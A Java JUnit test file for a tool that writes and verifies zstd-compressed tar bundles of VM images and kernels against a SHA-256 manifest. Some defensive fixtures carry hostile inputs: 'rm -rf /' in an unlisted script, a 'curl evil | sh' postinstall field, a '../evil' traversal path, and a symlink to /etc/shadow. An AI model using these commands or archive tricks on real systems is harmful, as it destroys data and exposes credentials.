package dev.banger.bundle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.github.luben.zstd.ZstdOutputStream;
import dev.banger.archive.ExtractionLimits;
import dev.banger.download.Cancellation;
import dev.banger.download.ProgressListener;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CancellationException;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class BundleTest {

  private static final BundleMetadata IMAGE =
      new BundleMetadata(
          "debian-bookworm", BundleKind.IMAGE, "2026-12-03", "x86_64", Optional.of("debian-cloud"));
  private static final Instant MTIME = Instant.parse("2025-01-02T03:04:05Z");

  @TempDir Path temp;
  private Path source;
  private Path staging;
  private final BundleReader reader = new BundleReader(ExtractionLimits.DEFAULT);

  @BeforeEach
  void sourceTree() throws IOException {
    source = Files.createDirectories(temp.resolve("source"));
    staging = temp.resolve("staging");
    Files.writeString(source.resolve("rootfs.ext4"), "pretend this is ext4");
    Files.createDirectories(source.resolve("modules/kernel"));
    Files.writeString(source.resolve("modules/modules.dep"), "kernel/a.ko:\n");
    Files.write(source.resolve("modules/kernel/a.ko"), new byte[] {0x7f, 'E', 'L', 'F'});
    Files.setPosixFilePermissions(
        source.resolve("rootfs.ext4"), PosixFilePermissions.fromString("rw-r-----"));
    Files.setLastModifiedTime(source.resolve("rootfs.ext4"), FileTime.from(MTIME));
  }

  @Test
  void roundTripRestoresEveryFileWithModeAndTime() throws Exception {
    Path bundle = temp.resolve("image.bundle");
    List<Long> written = new ArrayList<>();

    BundleManifest manifest =
        new BundleWriter()
            .write(
                source, IMAGE, bundle, (done, total) -> written.add(done), Cancellation.create());
    List<Long> read = new ArrayList<>();
    BundleManifest verified =
        reader.read(bundle, staging, (done, total) -> read.add(done), Cancellation.create());

    assertThat(verified).isEqualTo(manifest);
    assertThat(manifest.files())
        .extracting(BundleFile::path)
        .containsExactly("modules/kernel/a.ko", "modules/modules.dep", "rootfs.ext4");
    assertThat(manifest.files().get(2))
        .isEqualTo(new BundleFile("rootfs.ext4", sha256("pretend this is ext4"), 20));
    for (BundleFile file : manifest.files()) {
      assertThat(Files.readAllBytes(staging.resolve(file.path())))
          .isEqualTo(Files.readAllBytes(source.resolve(file.path())));
    }
    assertThat(
            PosixFilePermissions.toString(
                Files.getPosixFilePermissions(staging.resolve("rootfs.ext4"))))
        .isEqualTo("rw-r-----");
    assertThat(Files.getLastModifiedTime(staging.resolve("rootfs.ext4")).toInstant())
        .isEqualTo(MTIME);
    assertThat(written).last().isEqualTo(manifest.totalSize());
    assertThat(read).last().isEqualTo(manifest.totalSize());
    assertThat(temp.resolve("image.bundle.part")).doesNotExist();
  }

  @Test
  void manifestIsTheFirstEntryAndCarriesTheMetadata() throws Exception {
    Path bundle = temp.resolve("image.bundle");
    new BundleWriter().write(source, IMAGE, bundle, ProgressListener.NONE, Cancellation.create());

    try (TarArchiveInputStream tar =
        new TarArchiveInputStream(
            new com.github.luben.zstd.ZstdInputStream(Files.newInputStream(bundle)))) {
      TarArchiveEntry first = tar.getNextEntry();
      String json = new String(tar.readAllBytes(), StandardCharsets.UTF_8);

      assertThat(first.getName()).isEqualTo("manifest.json");
      assertThat(json)
          .contains(
              "\"format\" : 1",
              "\"name\" : \"debian-bookworm\"",
              "\"kind\" : \"image\"",
              "\"kernel\" : \"debian-cloud\"",
              "\"arch\" : \"x86_64\"",
              "\"path\" : \"rootfs.ext4\"",
              "\"size\" : 20");
    }
  }

  @Test
  void tamperedFileIsRefusedAndStagingLeftEmpty() throws Exception {
    byte[] manifest = manifest("rootfs.ext4", sha256("original"), 8);

    Path bundle =
        bundle(
            List.of(
                entry("manifest.json", manifest),
                entry("rootfs.ext4", "tampered".getBytes(StandardCharsets.UTF_8))));

    assertThatThrownBy(() -> read(bundle))
        .isInstanceOf(BundleException.class)
        .hasMessageContaining("'" + bundle + "'")
        .hasMessageContaining("file 'rootfs.ext4' has SHA-256 " + sha256("tampered"))
        .hasMessageContaining("the manifest says " + sha256("original"));
    assertThat(staging).doesNotExist();
  }

  @Test
  void fileOfTheWrongSizeIsRefused() throws Exception {
    Path bundle =
        bundle(
            List.of(
                entry("manifest.json", manifest("rootfs.ext4", sha256("abc"), 4)),
                entry("rootfs.ext4", "abc".getBytes(StandardCharsets.UTF_8))));

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("entry 'rootfs.ext4' has 3 bytes, the manifest says 4");
  }

  @Test
  void fileMissingFromTheArchiveIsRefused() throws Exception {
    Files.createDirectories(staging);
    Path bundle = bundle(List.of(entry("manifest.json", manifest("rootfs.ext4", sha256("x"), 1))));

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("lacks files its manifest lists: rootfs.ext4");
    assertThat(staging).isEmptyDirectory();
  }

  @Test
  void extraFileNotInTheManifestIsRefused() throws Exception {
    Path bundle =
        bundle(
            List.of(
                entry("manifest.json", manifest("rootfs.ext4", sha256("x"), 1)),
                entry("rootfs.ext4", "x".getBytes(StandardCharsets.UTF_8)),
                entry("extra.sh", "rm -rf /".getBytes(StandardCharsets.UTF_8))));

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("entry 'extra.sh' (FILE) is not a file the manifest lists");
    assertThat(staging).doesNotExist();
  }

  @Test
  void archiveWhoseFirstEntryIsNotTheManifestIsRefused() throws Exception {
    Path bundle =
        bundle(
            List.of(
                entry("rootfs.ext4", "x".getBytes(StandardCharsets.UTF_8)),
                entry("manifest.json", manifest("rootfs.ext4", sha256("x"), 1))));

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("its first entry is 'rootfs.ext4', not manifest.json");
  }

  @Test
  void manifestListingAnEscapingPathIsRefused() throws Exception {
    Path bundle = bundle(List.of(entry("manifest.json", manifest("../evil", sha256("x"), 1))));

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("file path '../evil' must not have empty, '.' or '..' components");
    assertThat(temp.resolve("evil")).doesNotExist();
  }

  @Test
  void symlinkSmuggledIntoABundleIsRefused() throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new ZstdOutputStream(bytes))) {
      add(tar, "manifest.json", manifest("rootfs.ext4", sha256("x"), 1));
      TarArchiveEntry link = new TarArchiveEntry("rootfs.ext4", TarArchiveEntry.LF_SYMLINK);
      link.setLinkName("/etc/shadow");
      tar.putArchiveEntry(link);
      tar.closeArchiveEntry();
    }
    Path bundle = Files.write(temp.resolve("link.bundle"), bytes.toByteArray());

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("'rootfs.ext4' (SYMLINK) is not a file the manifest lists");
  }

  @Test
  void malformedManifestIsAClearError() throws Exception {
    Path bundle =
        bundle(
            List.of(
                entry(
                    "manifest.json",
                    "{\"format\": 1, \"name\": ".getBytes(StandardCharsets.UTF_8))));

    assertThatThrownBy(() -> read(bundle))
        .hasMessageContaining("The manifest of bundle '" + bundle + "' is not valid JSON");
  }

  @Test
  void manifestWithAnUnknownFieldIsRefused() throws Exception {
    String json =
        "{\"format\":1,\"name\":\"k\",\"kind\":\"kernel\",\"version\":\"1\",\"arch\":\"x86_64\","
            + "\"files\":[],\"postinstall\":\"curl evil | sh\"}";
    Path bundle = bundle(List.of(entry("manifest.json", json.getBytes(StandardCharsets.UTF_8))));

    assertThatThrownBy(() -> read(bundle)).hasMessageContaining("unknown field 'postinstall'");
  }

  @Test
  void imageMetadataMustNameAKernelAndKernelMetadataMustNot() {
    assertThatThrownBy(
            () ->
                new BundleWriter()
                    .write(
                        source,
                        new BundleMetadata(
                            "img", BundleKind.IMAGE, "1", "x86_64", Optional.empty()),
                        temp.resolve("b"),
                        ProgressListener.NONE,
                        Cancellation.create()))
        .isInstanceOf(BundleException.class)
        .hasMessageContaining("an image bundle must name its kernel");
    assertThatThrownBy(
            () ->
                new BundleWriter()
                    .write(
                        source,
                        new BundleMetadata(
                            "k", BundleKind.KERNEL, "1", "x86_64", Optional.of("other")),
                        temp.resolve("b"),
                        ProgressListener.NONE,
                        Cancellation.create()))
        .hasMessageContaining("a kernel bundle must not name a kernel");
  }

  @Test
  void writerRefusesSymlinksInTheSourceDirectory() throws Exception {
    Files.createSymbolicLink(source.resolve("link"), Path.of("/etc/passwd"));

    assertThatThrownBy(
            () ->
                new BundleWriter()
                    .write(
                        source,
                        IMAGE,
                        temp.resolve("b"),
                        ProgressListener.NONE,
                        Cancellation.create()))
        .hasMessageContaining("only regular files can go into a bundle");
    assertThat(temp.resolve("b")).doesNotExist();
  }

  @Test
  void readerRefusesANonEmptyStagingDirectory() throws Exception {
    Path bundle = temp.resolve("image.bundle");
    new BundleWriter().write(source, IMAGE, bundle, ProgressListener.NONE, Cancellation.create());
    Files.createDirectories(staging);
    Files.writeString(staging.resolve("keep"), "mine");

    assertThatThrownBy(() -> read(bundle)).hasMessageContaining("not empty");
    assertThat(staging.resolve("keep")).hasContent("mine");
  }

  @Test
  void cancelledWriteLeavesNoBundle() {
    Cancellation cancellation = Cancellation.create();
    cancellation.cancel();

    assertThatThrownBy(
            () ->
                new BundleWriter()
                    .write(source, IMAGE, temp.resolve("b"), ProgressListener.NONE, cancellation))
        .isInstanceOf(CancellationException.class);
    assertThat(temp.resolve("b")).doesNotExist();
    assertThat(temp.resolve("b.part")).doesNotExist();
  }

  private BundleManifest read(Path bundle) throws BundleException {
    return reader.read(bundle, staging, ProgressListener.NONE, Cancellation.create());
  }

  private static byte[] manifest(String path, String sha256, long size) {
    String json =
        "{\"format\":1,\"name\":\"debian-bookworm\",\"kind\":\"image\",\"version\":\"1\","
            + "\"arch\":\"x86_64\",\"kernel\":\"debian-cloud\",\"files\":[{\"path\":\""
            + path
            + "\",\"sha256\":\""
            + sha256
            + "\",\"size\":"
            + size
            + "}]}";
    return json.getBytes(StandardCharsets.UTF_8);
  }

  private record Entry(String name, byte[] content) {}

  private static Entry entry(String name, byte[] content) {
    return new Entry(name, content);
  }

  private Path bundle(List<Entry> entries) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (OutputStream zstd = new ZstdOutputStream(bytes);
        TarArchiveOutputStream tar = new TarArchiveOutputStream(zstd)) {
      for (Entry entry : entries) {
        add(tar, entry.name(), entry.content());
      }
    }
    return Files.write(temp.resolve("crafted.bundle"), bytes.toByteArray());
  }

  private static void add(TarArchiveOutputStream tar, String name, byte[] content)
      throws IOException {
    TarArchiveEntry entry = new TarArchiveEntry(name);
    entry.setSize(content.length);
    tar.putArchiveEntry(entry);
    tar.write(content);
    tar.closeArchiveEntry();
  }

  private static String sha256(String text) throws Exception {
    return HexFormat.of()
        .formatHex(
            MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
  }
}
